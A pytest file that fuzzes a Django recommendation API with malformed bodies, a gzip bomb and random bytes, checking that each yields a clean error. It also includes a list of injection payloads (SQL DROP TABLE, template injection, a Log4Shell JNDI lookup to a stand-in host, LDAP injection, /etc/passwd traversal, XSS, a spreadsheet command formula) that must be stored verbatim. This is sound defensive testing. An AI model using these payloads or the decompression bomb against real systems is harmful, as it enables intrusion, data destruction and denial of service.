"""Whatever the body and whatever the address: a problem, never a failure."""

from __future__ import annotations

import gzip
import json
import random
import re
import uuid
from typing import Any

import pytest

ADDRESSES = [
    ("post", "events"),
    ("put", "content/v1"),
    ("post", "content/batch"),
    ("put", "users/alice"),
    ("post", "users/batch"),
    ("post", "client-tokens"),
    ("post", "notices"),
    ("post", "appeals"),
]
BODIES = {
    "nothing": b"",
    "spaces": b"  \n ",
    "cut": b'{"type": "view", ',
    "deep_array": b"[" * 5000 + b"]" * 5000,
    "deep_object": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "deep_in_a_field": b'{"metadata": ' + b"[" * 5000 + b"]" * 5000 + b"}",
    "raw_nul": b'{"user_id": "a\0b"}',
    "nul_byte": b"\0",
    "escaped_nul": rb'{"user_id": "a\u0000b"}',
    "nul_in_a_key": rb'{"a\u0000b": 1}',
    "lone_surrogate": rb'{"user_id": "\ud800"}',
    "encoded_surrogate": b'{"user_id": "\xed\xa0\x80"}',
    "bad_utf8": b'{"user_id": "\xff\xfe"}',
    "bad_utf8_in_a_key": b'{"\xff": 1}',
    "utf16": '{"user_id": "alice"}'.encode("utf-16"),
    "byte_order_mark": b"\xef\xbb\xbf[1]",
    "nan": b'{"user_id": NaN}',
    "infinity": b"[Infinity, -Infinity]",
    "huge_float": b'{"user_id": 1e999}',
    "huge_int": b'{"user_id": ' + b"9" * 5000 + b"}",
    "huge_exponent": b"1e" + b"9" * 5000,
    "number": b"5",
    "text": b'"text"',
    "null": b"null",
    "true": b"true",
    "array_of_arrays": b"[[1]]",
    "array_of_null": b"[null]",
    "object_of_null": b'{"user_id": null, "creator_id": null, "metadata": null}',
    "two_values": b"{} {}",
    "python": b"{'user_id': 'alice'}",
    "xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    "ten_megabytes": b'{"user_id": "' + b"x" * 10_000_000 + b'"}',
}


def assert_problem(answer: Any, *statuses: int) -> None:
    assert answer.status_code in statuses, answer.content[:500]
    assert answer["Content-Type"] == "application/problem+json"
    assert answer.json()["status"] == answer.status_code


@pytest.mark.parametrize(("method", "address"), ADDRESSES)
@pytest.mark.parametrize("name", BODIES)
def test_bad_body_is_a_problem(method: str, address: str, name: str, api: Any) -> None:
    answer = getattr(api, method)(address, BODIES[name])

    assert_problem(answer, 400, 413, 422)
    assert (answer.status_code == 413) == (name == "ten_megabytes")


@pytest.mark.parametrize(("method", "address"), ADDRESSES)
def test_gzip_bomb_is_a_problem(method: str, address: str, api: Any) -> None:
    bomb = gzip.compress(b" " * 100_000_000, compresslevel=1)
    headers = {"authorization": f"Bearer {api.key}", "content-encoding": "gzip"}

    send = getattr(api.client, method)
    answer = send(f"/api/v1/{address}", bomb, content_type="application/json", headers=headers)

    assert_problem(answer, 413)


@pytest.mark.parametrize("body", [b'{"user_id": "alice"}', b"\x1f\x8b\x08broken", b""])
def test_body_that_is_not_gzip_is_a_problem(body: bytes, api: Any) -> None:
    headers = {"authorization": f"Bearer {api.key}", "content-encoding": "gzip"}

    answer = api.client.post(
        "/api/v1/events", body, content_type="application/json", headers=headers
    )

    assert_problem(answer, 400)


def test_body_in_an_encoding_that_is_not_read_is_a_problem(api: Any) -> None:
    headers = {"authorization": f"Bearer {api.key}", "content-encoding": "br"}

    answer = api.client.post(
        "/api/v1/events", b"[]", content_type="application/json", headers=headers
    )

    assert_problem(answer, 415)
    assert answer.json()["code"] == "unsupported-encoding"


def test_what_can_be_read_has_a_head(api: Any) -> None:
    headers = {"authorization": f"Bearer {api.key}"}

    assert api.client.head("/api/v1/popular", headers=headers).status_code == 200


@pytest.mark.parametrize(("method", "address"), ADDRESSES)
def test_random_bytes_are_a_problem(method: str, address: str, api: Any) -> None:
    rng = random.Random(7)

    for _ in range(20):
        body = rng.randbytes(rng.randrange(1, 300))
        assert_problem(getattr(api, method)(address, body), 400, 422)


HOSTILE = [
    "'; DROP TABLE content_content; --",
    "{{7*7}}{% debug %}",
    "${jndi:ldap://mallory.example/x}",
    "*)(uid=*))(|(uid=*",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "%s%n%x",
    "\u202eevil\u200b",
    "𝒜👩‍👩‍👧‍👦",
    "\\",
    "\x01\x1f\x7f",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_stored_verbatim(text: str, api: Any) -> None:
    from apps.content.models import Content
    from apps.profiles.models import Creator

    metadata = {"description": text, "tags": [text], "category": text, "audio_id": text}
    row = {"content_id": text, "creator_id": text, "metadata": metadata}

    answer = api.post("content/batch", [row])

    assert answer.status_code == 200, answer.content
    content = Content.objects.select_related("sound").get()
    assert (content.content_id, content.description, content.tags) == (text, text, [text])
    assert content.category == text
    assert content.sound is not None
    assert content.sound.audio_id == text
    assert Creator.objects.get().creator_id == text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_user_id_gets_a_feed(text: str, api: Any) -> None:
    assert api.post("users/batch", [{"user_id": text}]).status_code == 200
    assert api.get("feed", user_id=text).status_code == 200


@pytest.mark.parametrize(
    "address",
    ["content/%00", "users/a%00b", f"content/{'x' * 129}", "feed?user_id=%00", "feed?user_id="],
)
def test_address_that_cannot_be_an_id_is_a_problem(address: str, api: Any) -> None:
    headers = {"authorization": f"Bearer {api.key}"}
    send = api.client.get if address.startswith("feed") else api.client.put

    answer = send(f"/api/v1/{address}", content_type="application/json", headers=headers, data={})

    assert_problem(answer, 422)


@pytest.mark.parametrize("address", ["content/%FF%FE", "users/%ED%A0%80"])
def test_address_in_bad_utf8_is_no_failure(address: str, api: Any) -> None:
    assert api.put(address, {"creator_id": "bob"}).status_code in {204, 400, 404, 422}


def test_every_address_refuses_a_caller_without_a_key(db: None) -> None:
    from django.test import Client

    from recsys.urls import api as routes

    for route in routes:
        address = str(route.pattern).replace("<id:content_id>", "v1")
        address = re.sub(r"<uuid:\w+>", str(uuid.UUID(int=1)), address)
        address = address.replace("<id:user_id>", "alice").replace("<slug:name>", "dau")
        for method in ("get", "post", "put", "patch", "delete"):
            answer = getattr(Client(), method)(f"/api/v1/{address}")
            assert_problem(answer, 401)


def test_events_of_many_users_in_one_body_are_judged_one_by_one(api: Any) -> None:
    good = {"type": "view", "user_id": "alice", "content_id": "v1"}
    bad = [b'{"type": "view", "user_id": 5}', b"nonsense", b'{"type": "view", "user_id": "\xff"}']
    body = b"\n".join([json.dumps(good).encode(), *bad])

    answer = api.post("events", body, "application/x-ndjson")

    assert answer.status_code == 202
    assert [r["index"] for r in answer.json()["rejected"]] == [1, 2, 3]


@pytest.mark.parametrize("name", sorted(set(BODIES) - {"nothing", "spaces", "ten_megabytes"}))
def test_bad_body_of_events_is_in_the_quarantine(name: str, api: Any) -> None:
    from apps.events.models import QuarantinedEvent

    api.post("events", BODIES[name])
    api.post("events", BODIES[name], "application/x-ndjson")

    rows = QuarantinedEvent.objects.all()
    assert rows
    assert all(row.reason in QuarantinedEvent.Reason.values for row in rows)


@pytest.mark.parametrize("method", ["get", "post", "put", "delete"])
@pytest.mark.parametrize("address", ["nothing", "events/", "users/alice/", "content/v1/"])
def test_an_address_that_is_not_there_is_a_problem(method: str, address: str, client: Any) -> None:
    checking = type(client)(enforce_csrf_checks=True)

    assert_problem(getattr(checking, method)(f"/api/v1/{address}"), 404)


def test_ids_with_slashes_have_addresses(api: Any) -> None:
    assert api.put("users/de%2Falice", {}).status_code == 204
    assert api.put("content/de%2Fv1", {"creator_id": "bob"}).status_code == 204

    assert api.get("content/de%2Fv1/exposure").json()["content_id"] == "de/v1"
    assert api.get("users/de%2Falice/export").status_code == 200
    headers = {"authorization": f"Bearer {api.key}"}
    erased = api.client.delete("/api/v1/users/de%2Falice", headers=headers)
    assert erased.json()["user_id"] == "de/alice"
